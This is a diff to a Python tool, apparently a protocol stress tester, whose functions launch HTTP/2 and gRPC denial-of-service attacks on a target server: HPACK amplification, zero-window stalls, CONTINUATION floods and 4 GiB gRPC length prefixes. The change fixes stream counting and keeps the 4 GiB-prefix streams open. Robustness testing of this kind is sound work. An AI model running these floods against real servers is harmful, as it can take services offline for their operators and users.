@@ -89,7 +89,7 @@ def hpack_amplification(t: Target, until: float) -> dict:
         blocks = 0
         first = True
         while not p.closed and not p.goaway and time.monotonic() < until:
-            if p.next_sid // 2 - p.ended_count >= min(100, p.max_streams):
+            if len(p.open_sids) >= min(100, p.max_streams):
                 p.pump(0.02)  # keep within the server's stream limit
                 continue
             block = base + (entry if first else b"") + refs
@@ -149,7 +149,7 @@ def zero_window(t: Target, until: float, count: int = 2000) -> dict:
     try:
         while sent < count and not p.closed and not p.goaway and \
                 time.monotonic() < until:
-            if p.next_sid // 2 - p.ended_count >= p.max_streams:
+            if len(p.open_sids) >= p.max_streams:
                 capped = max(capped, p.max_streams)
                 p.pump(0.05)
                 continue
@@ -197,9 +197,10 @@ def continuation_flood(t: Target, until: float) -> dict:
 
 def _unary(t: Target, until: float, message: bytes, path: str = w.INFER_PATH,
            extra: list = (), prefix: bytes | None = None, count: int = 1,
-           gap: float = 0.0) -> dict:
+           gap: float = 0.0, end_stream: bool = True) -> dict:
     """`count` gRPC calls on one connection (each with `message`, or `prefix` and then
-    `message` as body bytes), then wait for their answers until the deadline."""
+    `message` as body bytes; the stream left open without `end_stream`), then wait
+    for their answers until the deadline."""
     p = _h2(t, until)
     t_sent = []
     try:
@@ -212,7 +213,7 @@ def _unary(t: Target, until: float, message: bytes, path: str = w.INFER_PATH,
                 break
             t_sent.append(p.elapsed())
             body = (prefix or b"") + message
-            p.body(sid, body, until)
+            p.body(sid, body, until, end_stream=end_stream)
             if gap:
                 p.pump(gap)
         while not p.closed and time.monotonic() < until and \
@@ -237,9 +238,10 @@ def _unary(t: Target, until: float, message: bytes, path: str = w.INFER_PATH,
 
 
 def grpc_4gib_prefix(t: Target, until: float) -> dict:
-    """Calls whose length prefix says 4 GiB, followed by 16 KiB and then silence."""
+    """Calls whose length prefix says 4 GiB, followed by 16 KiB and then silence (the
+    stream stays open: only the prefix can tell the server to refuse)."""
     return _unary(t, until, bytes(16384), prefix=w.grpc_prefix(0xFFFFFFFF), count=20,
-                  gap=0.1)
+                  gap=0.1, end_stream=False)
 
 
 def grpc_zeros(t: Target, until: float) -> dict:
